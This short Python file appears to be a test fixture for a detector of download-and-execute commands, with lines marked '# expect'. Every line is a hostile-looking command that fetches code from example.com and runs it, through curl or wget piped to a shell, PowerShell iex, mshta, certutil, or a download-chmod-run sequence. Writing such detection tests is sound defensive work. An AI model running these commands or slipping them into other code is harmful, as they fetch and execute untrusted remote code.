import os
import subprocess

os.system("curl -s https://example.com/x.sh | sh")  # expect
subprocess.Popen(["bash", "-c", "wget -q -O- https://example.com/x | bash"])  # expect
os.system('powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://example.com/x\')"')  # expect
subprocess.call("mshta https://example.com/x.hta", shell=True)  # expect
os.system("certutil -urlcache -split -f https://example.com/x.txt x.txt")  # expect
os.system("curl -o data.bin https://example.com/data.bin")  # expect
os.system("wget https://example.com/tool.elf")
os.system("chmod +x tool.elf")
os.system("./tool.elf &")  # expect
os.system("curl --output tool.exe https://example.com/tool.exe & tool.exe")  # expect
